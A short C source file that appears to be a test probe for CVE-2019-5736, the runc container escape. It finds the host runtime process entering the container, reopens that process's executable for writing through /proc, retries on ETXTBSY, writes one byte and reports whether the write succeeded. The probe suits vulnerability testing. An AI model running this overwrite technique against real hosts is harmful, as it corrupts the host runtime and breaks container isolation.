/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* CVE-2019-5736: whoever enters the container is caught, and its program on the host written. */
#include "escape.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static bool is_same(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* The program of a process, open, unless it is OURS; or -1. */
static int foreign_program(const char *pid, const struct stat *ours)
{
	char path[300];
	struct stat st;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && (fstat(fd, &st) < 0 || is_same(&st, ours))) {
		(void)close(fd);
		return -1;
	}
	return fd;
}

/* Tries until nobody executes it any more. */
static int overwrite(int fd)
{
	char path[32];

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (;;) {
		int again = open(path, O_WRONLY | O_CLOEXEC);

		/* A sealed copy can be opened, and not be written. */
		if (again >= 0)
			return write(again, "", 1) == 1;
		if (errno != ETXTBSY)
			return 0;
	}
}

int grab(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *d;
	struct stat ours;

	if (!proc || stat("/proc/self/exe", &ours) < 0)
		return 2;
	(void)printf("ready\n");
	(void)fflush(stdout);
	for (;; rewinddir(proc))
		while ((d = readdir(proc))) {
			int fd = d->d_name[0] >= '1' && d->d_name[0] <= '9' ? foreign_program(d->d_name, &ours) : -1;

			if (fd >= 0) {
				int r = overwrite(fd);

				(void)printf(r ? "written\n" : "held\n");
				return r;
			}
		}
}
